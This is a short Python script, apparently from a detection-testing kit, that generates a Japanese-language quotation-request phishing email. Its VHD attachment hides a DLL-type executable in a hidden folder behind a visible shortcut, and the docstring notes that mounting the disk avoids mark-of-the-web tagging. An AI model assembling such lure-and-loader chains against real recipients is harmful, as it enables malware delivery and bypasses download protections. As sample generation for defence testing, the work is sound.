"""A virtual disk with a shortcut to be seen, and what it starts in a hidden folder:
Windows mounts it by a double click, and no file in it is marked as from the network.
Scenario: MITRE ATT&CK T1553.005, T1564.001."""
from kit import *


def make():
    volume = (Fat(5000, hidden_folders=["data"]).add("見積書.lnk", lnk("/c start data\\update.dat"))
              .add("data/update.dat", Pe(dll=True).bytes()).bytes())
    return (Mail("見積依頼の件", "sales@trade.example.com").text("お世話になっております。\n見積書をお送りします。\n")
            .attach("見積書.vhd", vhd(partitioned(volume), dynamic=True)).bytes())
